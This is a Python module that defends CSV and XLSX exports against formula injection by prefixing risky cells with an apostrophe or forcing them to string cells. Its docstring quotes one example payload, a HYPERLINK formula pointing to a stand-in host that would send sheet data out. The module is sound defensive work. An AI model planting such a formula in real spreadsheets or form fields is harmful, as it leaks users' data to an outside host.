"""Cells a spreadsheet shows as written and never evaluates: the one rule every CSV and XLSX writer applies.

Text from a submission (an enterprise's name, a period) lands in files people open in Excel, WPS or LibreOffice,
which read a cell starting with =, +, -, @, a tab or a carriage return as a formula: a name such as
=HYPERLINK("http://evil.example/?x="&A1,"click") would become a live link that sends the sheet's data away.
OWASP's advice (CSV injection) is followed: in CSV such text gets a leading apostrophe, which the spreadsheet
shows as text and hides; in XLSX every such text is a string cell (data_type "s"), never a formula, so it keeps
its exact value. Numbers stay numbers, and so does text that spells one ("-30.00"): no formula starts that way.
"""
from __future__ import annotations

import re

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def formula_like(value) -> bool:
    """Text a spreadsheet would evaluate rather than show."""
    return isinstance(value, str) and value.startswith(TRIGGERS) and not _NUMBER.fullmatch(value)


def csv_row(cells) -> list:
    """A row for csv.writer: formula-like text prefixed with an apostrophe, everything else as it is."""
    return ["'" + c if formula_like(c) else c for c in cells]


def xlsx_row(sheet, cells) -> list:
    """A row for a write-only openpyxl sheet: formula-like text as a string cell (openpyxl would make a text that
    starts with = a formula), everything else as it is."""
    return [_text_cell(sheet, c) if formula_like(c) else c for c in cells]


def _text_cell(sheet, text: str):
    from openpyxl.cell import WriteOnlyCell  # only when a workbook is written: it takes a while to import

    cell = WriteOnlyCell(sheet, value=text)
    cell.data_type = "s"  # set after the value, which would have made it "f"
    return cell
